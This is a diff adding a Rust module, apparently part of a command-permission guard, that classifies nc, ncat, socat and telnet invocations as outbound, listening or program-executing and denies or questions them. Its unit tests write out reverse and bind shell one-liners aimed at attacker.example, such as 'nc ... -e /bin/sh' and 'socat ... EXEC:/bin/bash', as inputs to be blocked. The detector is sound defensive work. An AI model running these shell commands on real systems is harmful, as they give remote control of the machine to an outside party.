@@ -0,0 +1,284 @@
+//! Raw network tool evaluation (nc, ncat, netcat, socat, telnet).
+//!
+//! These tools can open arbitrary connections, listen for inbound ones, or
+//! wire a connection to a program — the classic reverse/bind shell. Each
+//! invocation is classified by mode and mapped to the `[raw_network]`
+//! decisions: outbound clients, listeners (`nc -l`, `socat TCP-LISTEN:`),
+//! and exec (`nc -e`, `ncat --sh-exec`, `socat EXEC:` / `SYSTEM:`).
+
+use super::super::CommandSpec;
+use crate::commands::args::{FlagSchema, ParsedArgs};
+use crate::config::RawNetworkConfig;
+use crate::eval::{CommandContext, Decision, RuleMatch};
+
+/// nc / ncat / netcat flags that consume a value (OpenBSD nc, Nmap ncat).
+const NC_FLAGS: FlagSchema = FlagSchema {
+    short_value: "cdeiIMmOoPpqsTVwXx",
+    long_value: &[
+        "--exec",
+        "--sh-exec",
+        "--lua-exec",
+        "--source",
+        "--source-port",
+        "--wait",
+        "--idle-timeout",
+        "--delay",
+        "--output",
+        "--hex-dump",
+        "--max-conns",
+        "--allow",
+        "--allowfile",
+        "--deny",
+        "--denyfile",
+        "--proxy",
+        "--proxy-type",
+        "--proxy-auth",
+        "--proxy-dns",
+        "--ssl-cert",
+        "--ssl-key",
+        "--ssl-trustfile",
+        "--ssl-ciphers",
+        "--ssl-servername",
+        "--ssl-alpn",
+    ],
+};
+
+/// nc flags that run a program on the connection.
+const NC_EXEC_FLAGS: &[&str] = &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"];
+
+/// nc flags that listen instead of connecting.
+const NC_LISTEN_FLAGS: &[&str] = &["-l", "-L", "--listen"];
+
+/// socat address types that run a program.
+const SOCAT_EXEC_TYPES: &[&str] = &["EXEC", "SYSTEM", "SHELL"];
+
+/// Raw network tool evaluator.
+///
+/// Evaluation order:
+/// 1. Each of these contributes its configured decision and reason;
+///    the strictest wins:
+///    - exec (`nc -e`/`-c`, `ncat --exec`/`--sh-exec`/`--lua-exec`,
+///      `socat EXEC:`/`SYSTEM:`/`SHELL:`) → `exec`
+///    - listener (`nc -l`, `socat *-LISTEN:` / `*-RECV*:`) → `listen`
+/// 2. Otherwise (outbound connection, and all telnet) → `client`
+/// 3. ALLOW with redirection → ASK
+pub struct RawNetworkSpec {
+    /// Decision for outbound connections.
+    client: Decision,
+    /// Decision for listening sockets.
+    listen: Decision,
+    /// Decision for connections wired to a program.
+    exec: Decision,
+}
+
+/// Mode flags found in one invocation.
+#[derive(Default)]
+struct Modes {
+    /// The flag or address that runs a program, if any.
+    exec: Option<String>,
+    /// The flag or address that listens, if any.
+    listen: Option<String>,
+    /// The remote endpoint of an outbound connection, if identifiable.
+    target: Option<String>,
+}
+
+impl RawNetworkSpec {
+    /// Build a raw network tool spec from configuration.
+    pub fn from_config(config: &RawNetworkConfig) -> Self {
+        Self {
+            client: config.client,
+            listen: config.listen,
+            exec: config.exec,
+        }
+    }
+
+    /// Classify nc / ncat / netcat arguments.
+    fn nc_modes(ctx: &CommandContext) -> Modes {
+        let args = ParsedArgs::parse(ctx.args(), &NC_FLAGS);
+        let flag = |names: &[&str]| {
+            args.flags
+                .iter()
+                .find(|f| names.contains(&f.name.as_str()))
+                .map(|f| f.name.clone())
+        };
+        Modes {
+            exec: flag(NC_EXEC_FLAGS),
+            listen: flag(NC_LISTEN_FLAGS),
+            target: args.positionals.first().cloned(),
+        }
+    }
+
+    /// Classify socat addresses. Options start with `-`; a lone `-` is the
+    /// stdio address. The address type is the text before the first `:` or `,`.
+    fn socat_modes(ctx: &CommandContext) -> Modes {
+        let mut modes = Modes::default();
+        for word in ctx.args() {
+            let w = word.as_str();
+            if w.starts_with('-') && w != "-" {
+                continue;
+            }
+            let kind = w.split([':', ',']).next().unwrap_or(w).to_ascii_uppercase();
+            if SOCAT_EXEC_TYPES.contains(&kind.as_str()) {
+                modes.exec.get_or_insert_with(|| format!("{kind}:"));
+            } else if kind.ends_with("-LISTEN") || kind.ends_with("-L") || kind.contains("-RECV") {
+                modes.listen.get_or_insert_with(|| format!("{kind}:"));
+            } else if w.contains(':') && modes.target.is_none() {
+                modes.target = Some(w.to_string());
+            }
+        }
+        modes
+    }
+}
+
+impl CommandSpec for RawNetworkSpec {
+    fn evaluate(&self, ctx: &CommandContext) -> RuleMatch {
+        let name = ctx.base_command.as_str();
+        let modes = match name {
+            "socat" => Self::socat_modes(ctx),
+            "telnet" => Modes {
+                target: ctx
+                    .args()
+                    .iter()
+                    .map(|w| w.as_str())
+                    .find(|w| !w.starts_with('-'))
+                    .map(String::from),
+                ..Modes::default()
+            },
+            _ => Self::nc_modes(ctx),
+        };
+
+        let mut decision = Decision::Allow;
+        let mut reasons = Vec::new();
+        if let Some(ref flag) = modes.exec {
+            decision = decision.max(self.exec);
+            reasons.push(format!("{name} {flag} runs a program on the connection"));
+        }
+        if let Some(ref flag) = modes.listen {
+            decision = decision.max(self.listen);
+            reasons.push(format!("{name} {flag} opens a listening socket"));
+        }
+
+        let result = if reasons.is_empty() {
+            RuleMatch {
+                decision: self.client,
+                reason: match modes.target {
+                    Some(target) => format!("{name} connection to {target}"),
+                    None => format!("{name} connection"),
+                },
+            }
+        } else {
+            RuleMatch {
+                decision,
+                reason: reasons.join("; "),
+            }
+        };
+
+        if result.decision == Decision::Allow
+            && let Some(ref r) = ctx.redirection
+        {
+            return RuleMatch {
+                decision: Decision::Ask,
+                reason: format!("{} with {}", result.reason, r),
+            };
+        }
+        result
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+
+    fn spec() -> RawNetworkSpec {
+        RawNetworkSpec::from_config(&Config::default_config().raw_network)
+    }
+
+    fn eval(cmd: &str) -> Decision {
+        let s = spec();
+        let ctx = CommandContext::from_command(cmd);
+        s.evaluate(&ctx).decision
+    }
+
+    fn reason(cmd: &str) -> String {
+        let s = spec();
+        let ctx = CommandContext::from_command(cmd);
+        s.evaluate(&ctx).reason
+    }
+
+    #[test]
+    fn client_asks() {
+        assert_eq!(eval("nc -zv example.com 443"), Decision::Ask);
+        assert_eq!(
+            reason("nc -w 3 example.com 80"),
+            "nc connection to example.com"
+        );
+        assert_eq!(eval("telnet mail.example.com 25"), Decision::Ask);
+        assert_eq!(eval("socat - TCP:example.com:80"), Decision::Ask);
+    }
+
+    #[test]
+    fn deny_listener() {
+        assert_eq!(eval("nc -l 4444"), Decision::Deny);
+        assert_eq!(eval("nc -nlvp 4444"), Decision::Deny);
+        assert_eq!(eval("ncat --listen 8080"), Decision::Deny);
+        assert!(reason("nc -lvp 4444").contains("-l opens a listening socket"));
+    }
+
+    #[test]
+    fn deny_exec() {
+        assert_eq!(eval("nc attacker.example 4444 -e /bin/sh"), Decision::Deny);
+        assert_eq!(
+            eval("ncat --sh-exec 'bash -i' attacker.example 4444"),
+            Decision::Deny
+        );
+        assert!(reason("nc -e /bin/bash host 1").contains("-e runs a program"));
+    }
+
+    #[test]
+    fn bind_shell_reports_both() {
+        let r = reason("nc -lvp 4444 -e /bin/sh");
+        assert!(r.contains("runs a program"));
+        assert!(r.contains("listening socket"));
+    }
+
+    #[test]
+    fn value_flag_not_target() {
+        // -p consumes the port; -s the source address.
+        assert_eq!(
+            reason("nc -s 10.0.0.2 -p 5000 example.com 80"),
+            "nc connection to example.com"
+        );
+    }
+
+    #[test]
+    fn deny_socat_listener() {
+        assert_eq!(
+            eval("socat TCP-LISTEN:8080,fork TCP:db:5432"),
+            Decision::Deny
+        );
+        assert_eq!(eval("socat udp4-recvfrom:53 -"), Decision::Deny);
+        assert_eq!(eval("socat TCP-L:9000 -"), Decision::Deny);
+    }
+
+    #[test]
+    fn deny_socat_exec() {
+        assert_eq!(
+            eval("socat TCP:attacker.example:4444 EXEC:/bin/bash,pty,stderr"),
+            Decision::Deny
+        );
+        assert!(reason("socat tcp:h:1 system:'sh -i'").contains("SYSTEM: runs a program"));
+    }
+
+    #[test]
+    fn allowed_client_with_redirection_asks() {
+        let s = RawNetworkSpec::from_config(&RawNetworkConfig {
+            client: Decision::Allow,
+            ..Config::default_config().raw_network
+        });
+        let ctx = CommandContext::from_command("nc -z host 22");
+        assert_eq!(s.evaluate(&ctx).decision, Decision::Allow);
+        let ctx = CommandContext::from_command("nc host 80 > /tmp/out");
+        assert_eq!(s.evaluate(&ctx).decision, Decision::Ask);
+    }
+}